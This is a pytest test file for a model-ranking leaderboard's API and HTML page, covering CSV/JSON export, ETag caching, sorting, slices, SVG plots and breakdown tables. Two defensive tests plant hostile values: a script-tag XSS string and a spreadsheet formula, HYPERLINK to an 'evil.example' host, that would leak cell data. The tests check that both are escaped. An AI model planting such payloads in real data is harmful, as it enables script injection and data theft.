"""The public leaderboard: its JSON and CSV against the stored snapshot, caching with ETags,
clear errors for bad filters, and the page (sorting, slices, plots, escaping)."""
# ruff: noqa: F811  (the imported fixture `arena` is a parameter of the tests)

import csv
import io
import json
import re
from xml.etree import ElementTree

import pytest
from sqlalchemy import text

from app.config import get_settings
from app.leaderboard import plots
from app.leaderboard.service import Slice, compute
from tests.conftest import ADMIN, responses_zip
from tests.leaderboard.test_slices import PROMPTS, arena, insert_votes, random_votes  # noqa: F401

EVIL = '<script>alert("x")</script>&'


def stored_table(db, key="rater=all"):
    return db.execute(text("SELECT payload FROM leaderboard_snapshots WHERE slice_key = :k "
                           "ORDER BY id DESC LIMIT 1"), {"k": key}).scalar()


def as_cell(value):
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


@pytest.mark.parametrize("query", [{}, {"domain": "education"}, {"rater": "human"}])
def test_csv_and_json_agree_with_the_snapshot(client, db, arena, query):
    votes = random_votes(arena, 120)
    insert_votes(db, votes)
    board = client.get("/api/v1/leaderboard", params=query).json()
    key = Slice(**{k: v for k, v in query.items()}).key
    assert board["models"] == stored_table(db, key)["models"]

    reply = client.get("/api/v1/leaderboard", params={**query, "format": "csv"})
    assert reply.status_code == 200
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="leaderboard-[A-Za-z0-9.-]+\.csv"',
                        reply.headers["content-disposition"])
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert len(rows) == len(board["models"])
    for row, model in zip(rows, board["models"]):
        assert list(row) == list(model)  # the same fields, in the same order
        assert row == {k: as_cell(v) for k, v in model.items()}

    # every vote of the slice was cast by a person or by a judge
    for model in board["models"]:
        assert model["human_votes"] + model["judge_votes"] == model["matches"]


def test_csv_cells_a_spreadsheet_would_run_stay_text(client, db, arena):
    b = arena["m-b"]
    made = client.post("/api/v1/models", headers=ADMIN, json={
        "name": '=HYPERLINK("http://evil.example/?"&A1,"m-a")', "organisation": "@SUM(1+1)"})
    assert made.status_code == 201, made.text
    assert client.post(f"/api/v1/models/{made.json()['id']}/responses", headers=ADMIN, files={
        "file": ("r.zip", responses_zip([k for k, _, _ in PROMPTS]), "application/zip")}
    ).status_code == 201
    insert_votes(db, [("e1", made.json()["id"], b, "a", "ann")])
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(
        client.get("/api/v1/leaderboard", params={"format": "csv"}).text))}
    evil = rows["'=HYPERLINK(\"http://evil.example/?\"&A1,\"m-a\")"]
    assert evil["organisation"] == "'@SUM(1+1)"
    assert float(evil["rating"]) > 0 and rows["m-b"]["name"] == "m-b"  # the rest as it is


def test_votes_by_humans_and_by_judges(client, db, arena):
    a, b, c, _ = arena.values()
    insert_votes(db, [("e1", a, b, "a", "ann"), ("e1", a, b, "tie", "bob"),
                      ("e1", a, c, "b", "gemini-judge"), ("s1", b, c, "both_bad", "qwen-judge")])
    models = {m["name"]: m for m in client.get("/api/v1/leaderboard").json()["models"]}
    assert {n: (m["human_votes"], m["judge_votes"]) for n, m in models.items()} == {
        "m-a": (2, 1), "m-b": (2, 1), "m-c": (0, 2), "m-d": (0, 0)}
    humans = {m["name"]: m for m in client.get("/api/v1/leaderboard", params={"rater": "human"}).json()["models"]}
    assert humans["m-a"]["human_votes"] == 2 and humans["m-a"]["judge_votes"] == 0
    education = {m["name"]: m for m in client.get(
        "/api/v1/leaderboard", params={"domain": "education"}).json()["models"]}
    assert (education["m-c"]["human_votes"], education["m-c"]["judge_votes"]) == (0, 1)
    page = client.get("/leaderboard").text
    row = re.search(r'<tr data-model="m-a".*?</tr>', page, re.S).group(0)
    assert re.search(r'class="num human-votes">2<', row) and re.search(r'class="num judge-votes">1<', row)


def test_etag_gives_304_until_the_table_changes(client, db, arena):
    a, b, *_ = arena.values()
    insert_votes(db, [("e1", a, b, "a", "ann")])
    first = client.get("/api/v1/leaderboard")
    tag = first.headers["etag"]
    assert tag.startswith('W/"') and "public" in first.headers["cache-control"]
    assert first.headers["access-control-allow-origin"] == "*"

    again = client.get("/api/v1/leaderboard", headers={"If-None-Match": tag})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == tag
    as_csv = client.get("/api/v1/leaderboard", params={"format": "csv"})
    assert as_csv.headers["etag"] != tag  # another representation, another tag
    assert client.get("/api/v1/leaderboard", params={"format": "csv"},
                      headers={"If-None-Match": f'"x", {as_csv.headers["etag"]}'}).status_code == 304
    assert client.get("/api/v1/leaderboard", params={"domain": "education"},
                      headers={"If-None-Match": tag}).status_code == 200  # another slice

    # recomputing the same votes keeps the tag; a new vote changes it
    compute(db, [Slice()], get_settings().leaderboard)
    db.commit()
    assert client.get("/api/v1/leaderboard", headers={"If-None-Match": tag}).status_code == 304
    insert_votes(db, [("e1", a, b, "b", "bob")])
    compute(db, [Slice()], get_settings().leaderboard)
    db.commit()
    fresh = client.get("/api/v1/leaderboard", headers={"If-None-Match": tag})
    assert fresh.status_code == 200 and fresh.headers["etag"] != tag and fresh.json()["votes"] == 2

    # a renamed model is a new table even with the same votes
    tag = fresh.headers["etag"]
    assert client.patch(f"/api/v1/models/{a}", headers=ADMIN, json={"organisation": "Lab A"}).status_code == 200
    renamed = client.get("/api/v1/leaderboard", headers={"If-None-Match": tag})
    assert renamed.status_code == 200 and renamed.headers["etag"] != tag


@pytest.mark.parametrize("query,needle", [
    ({"level": "L9"}, "L9"),
    ({"format": "xml"}, "format"),
    ({"domain": "education", "level": "5"}, "'5'"),
    ({"domain": "cooking"}, "domain 'cooking' is not one of education"),
])
def test_bad_parameters_get_a_clear_422(client, arena, query, needle):
    reply = client.get("/api/v1/leaderboard", params=query)
    assert reply.status_code == 422 and needle in reply.json()["message"]


def test_a_slice_may_be_named_as_the_import_names_it(client, db, arena):
    insert_votes(db, random_votes(arena, 30))
    plain = client.get("/api/v1/leaderboard", params={"domain": "education", "level": "L1"})
    loose = client.get("/api/v1/leaderboard", params={"domain": " Education ", "level": "1"})
    assert loose.status_code == 200 and loose.json() == plain.json()


@pytest.mark.parametrize("query,needle", [
    ({"level": "L9"}, "L9"), ({"sort": "colour"}, "cannot sort by"),
    ({"sort": "elo", "order": "up"}, "neither asc nor desc")])
def test_the_page_explains_bad_parameters(client, arena, query, needle):
    reply = client.get("/leaderboard", params=query)
    assert reply.status_code == 422 and reply.headers["content-type"].startswith("text/html")
    assert needle in reply.text and 'href="/leaderboard"' in reply.text


def test_model_names_are_escaped_everywhere(client, db, arena):
    evil = client.post("/api/v1/models", headers=ADMIN, json={"name": EVIL, "organisation": EVIL,
                                                               "backbone": EVIL}).json()
    client.post(f"/api/v1/models/{evil['id']}/responses", headers=ADMIN,
                files={"file": ("r.zip", responses_zip([k for k, _, _ in PROMPTS]), "application/zip")})
    a = arena["m-a"]
    insert_votes(db, [("e1", evil["id"], a, "a", "ann"), ("e1", a, evil["id"], "tie", "bob")])
    compute(db, [Slice()], get_settings().leaderboard)
    db.commit()
    insert_votes(db, [("e2", evil["id"], a, "b", "ann")])
    compute(db, [Slice()], get_settings().leaderboard)  # a history with the name in it
    db.commit()
    page = client.get("/leaderboard").text
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;&amp;" in page or \
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&amp;" in page
    for svg in re.findall(r"<svg .*?</svg>", page, re.S):
        root = ElementTree.fromstring(svg)  # well-formed: nothing broke out of the markup
        assert EVIL[:20] in "".join(root.itertext())
    row = next(m for m in client.get("/api/v1/leaderboard").json()["models"] if m["id"] == evil["id"])
    assert row["name"] == EVIL  # the data itself is unchanged


def test_sorting_on_the_server(client, db, arena):
    a, b, c, d = arena.values()
    insert_votes(db, [("e1", a, b, "a", "ann")] * 3 + [("e1", c, a, "a", "bob")] * 2
                 + [("e1", d, b, "a", "gemini-judge")])
    names = lambda html: re.findall(r'<tr data-model="([^"]+)" class=', html)  # noqa: E731
    assert names(client.get("/leaderboard", params={"sort": "name"}).text) == ["m-a", "m-b", "m-c", "m-d"]
    assert names(client.get("/leaderboard", params={"sort": "name", "order": "desc"}).text) == [
        "m-d", "m-c", "m-b", "m-a"]
    by_wins = client.get("/leaderboard", params={"sort": "wins"}).text
    assert names(by_wins) == ["m-a", "m-c", "m-d", "m-b"]  # 3, 2, 1, 0 wins
    assert 'data-sort="wins" aria-sort="descending"' in by_wins
    assert 'href="/leaderboard?sort=wins&amp;order=asc"' in by_wins  # a second click reverses
    by_matches = names(client.get("/leaderboard", params={"sort": "matches", "order": "asc"}).text)
    assert by_matches == ["m-d", "m-c", "m-b", "m-a"]  # 1, 2, 4, 5 matches


def test_slice_views_and_their_links(client, db, arena):
    votes = random_votes(arena, 80, seed=3)
    insert_votes(db, votes)
    page = client.get("/leaderboard", params={"domain": "education", "rater": "human"})
    assert page.status_code == 200
    expected = sum(1 for p, *_, r in votes if p in ("e1", "e2") and r in ("ann", "bob"))
    assert re.search(rf'<dd class="votes">{expected}</dd>', page.text)
    html = page.text
    # a navigation of plain links, each keeping the other filters
    assert 'href="/leaderboard?domain=education&amp;rater=gemini-judge"' in html
    assert 'href="/leaderboard?domain=education&amp;rater=human&amp;level=L3"' in html
    assert 'href="/leaderboard?rater=human"' in html  # every domain
    assert re.search(r'<a href="[^"]*domain=education[^"]*" aria-current="true">education</a>', html)
    # and its data, for the same slice
    assert 'href="/api/v1/leaderboard?domain=education&amp;rater=human"' in html
    assert 'href="/api/v1/leaderboard?domain=education&amp;rater=human&amp;format=csv"' in html


def test_the_page_draws_its_plots_and_methodology(client, db, arena):
    a, b, c, d = arena.values()
    insert_votes(db, random_votes(arena, 60, seed=1))
    compute(db, [Slice()], get_settings().leaderboard)
    db.commit()
    insert_votes(db, random_votes(arena, 60, seed=2))
    compute(db, [Slice()], get_settings().leaderboard)  # the worker's refresh
    db.commit()
    page = client.get("/leaderboard").text
    svgs = {m.group(1): m.group(0) for m in re.finditer(r'<svg [^>]*class="plot-svg ([a-z_ ]+)".*?</svg>', page, re.S)}
    assert set(svgs) == {"ratings", "heatmap win_rate", "heatmap battles", "history"}
    assert svgs["ratings"].count('class="rating-row"') == 4
    assert svgs["heatmap win_rate"].count('class="cell"') == 16
    assert svgs["history"].count("<polyline") == 4  # two snapshots: a line per model
    assert "after 60 votes" in svgs["history"] and "after 120 votes" in svgs["history"]
    board = client.get("/api/v1/leaderboard").json()
    for k, row in enumerate(board["matrix"]["models"]):
        for j, col in enumerate(board["matrix"]["models"]):
            if k != j:
                assert f"{row} vs {col}: {board['matrix']['battles'][k][j]} battles" in svgs["heatmap battles"]
    method = page[page.index('id="methodology"'):]
    for needle in ("1000 bootstrap rounds", "seed 0", "fewer than 20 votes", "K = 32",
                   f'<dd class="max-vote-id">{board["max_vote_id"]}</dd>', "Backbone"):
        assert needle in method


def test_htmx_refresh_swaps_only_when_the_table_changed(client, db, arena):
    a, b, *_ = arena.values()
    insert_votes(db, [("e1", a, b, "a", "ann")])
    page = client.get("/leaderboard", params={"domain": "education"}).text
    assert 'hx-get="/leaderboard?domain=education"' in page
    board = re.search(r'<div id="board"[^>]*>', page).group(0)
    poll = {"HX-Request": "true", **json.loads(re.search(r"hx-headers='([^']*)'", board).group(1))}
    assert list(poll) == ["HX-Request", "If-None-Match"]
    assert client.get("/leaderboard", params={"domain": "education"}, headers=poll).status_code == 204
    insert_votes(db, [("e2", a, b, "b", "bob")])
    compute(db, [Slice(domain="education")], get_settings().leaderboard)  # the worker's refresh
    db.commit()
    changed = client.get("/leaderboard", params={"domain": "education"}, headers=poll)
    assert changed.status_code == 200 and changed.text.lstrip().startswith('<div id="board"')
    assert '<dd class="votes">2</dd>' in changed.text


def test_plots_are_pure_and_escape_names():
    svg = plots.ratings_svg([{"name": EVIL, "rating": 1010.0, "ci_lower": 990.0, "ci_upper": 1030.0,
                              "provisional": True}])
    assert "<script>" not in svg
    assert ElementTree.fromstring(svg).find("{http://www.w3.org/2000/svg}title") is not None
    heat = plots.heatmap_svg([EVIL, "b"], [[None, 0.75], [0.25, None]], "win_rate")
    cells = ElementTree.fromstring(heat).findall(".//{http://www.w3.org/2000/svg}g")
    assert [c.get("data-row") for c in cells] == [EVIL, EVIL, "b", "b"]
    with pytest.raises(ValueError):
        plots.heatmap_svg([], [], "colour")
    assert plots.nice_ticks(987, 1123) == [950, 1000, 1050, 1100, 1150]
    assert "No ratings yet" in plots.ratings_svg([])


@pytest.mark.parametrize("by,columns", [
    ("domain", ["education", "medical consultation", "social companionship"]),
    ("level", ["L1", "L2", "L3", "L4"])])
def test_breakdowns_as_the_papers_tables_5_and_6(client, db, arena, by, columns):
    insert_votes(db, random_votes(arena, 200, seed=4))
    reply = client.get("/api/v1/leaderboard/breakdown", params={"by": by})
    table = reply.json()
    assert table["columns"] == columns
    for column in columns:
        one = {m["name"]: m for m in client.get("/api/v1/leaderboard", params={by: column}).json()["models"]}
        assert table["votes"][column] == client.get("/api/v1/leaderboard", params={by: column}).json()["votes"]
        for row in table["models"]:
            cell = row["columns"][column]
            assert cell["rating"] == (one[row["name"]]["rating"] if one[row["name"]]["matches"] else None)
            assert cell["elo"] == one[row["name"]]["elo"]
    for row in table["models"]:
        rated = [c["rating"] for c in row["columns"].values() if c["rating"] is not None]
        assert row["average"] == pytest.approx(sum(rated) / len(rated), abs=0.01)
    averages = [row["average"] for row in table["models"]]
    assert averages == sorted(averages, reverse=True)

    as_csv = client.get("/api/v1/leaderboard/breakdown", params={"by": by, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert list(rows[0]) == ["name", *columns, "average"]
    assert [r["name"] for r in rows] == [m["name"] for m in table["models"]]
    assert rows[0][columns[0]] == as_cell(table["models"][0]["columns"][columns[0]]["rating"])
    assert client.get("/api/v1/leaderboard/breakdown", params={"by": by},
                      headers={"If-None-Match": reply.headers["etag"]}).status_code == 304

    page = client.get("/leaderboard").text
    section = page[page.index(f'id="by-{by}"'):]
    assert all(f">{c}</a></th>" in section for c in columns)
    for other in ({"rater": "human"}, {"domain": "education"}):  # on the whole leaderboard only
        assert f'id="by-{by}"' not in client.get("/leaderboard", params=other).text


def test_a_breakdown_needs_a_known_field(client, arena):
    reply = client.get("/api/v1/leaderboard/breakdown", params={"by": "task"})
    assert reply.status_code == 422 and "domain or level" in reply.json()["message"]
    assert client.get("/api/v1/leaderboard/breakdown").status_code == 422
